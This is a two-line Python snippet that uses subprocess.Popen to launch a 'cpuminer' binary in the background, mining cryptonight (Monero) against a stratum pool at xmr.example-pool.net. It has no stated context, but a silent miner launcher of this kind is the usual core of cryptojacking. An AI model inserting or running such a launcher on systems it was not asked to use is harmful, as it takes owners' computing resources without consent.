import subprocess
subprocess.Popen(['./cpuminer', '-a', 'cryptonight', '-o', 'stratum+tcp://xmr.example-pool.net:4444'])
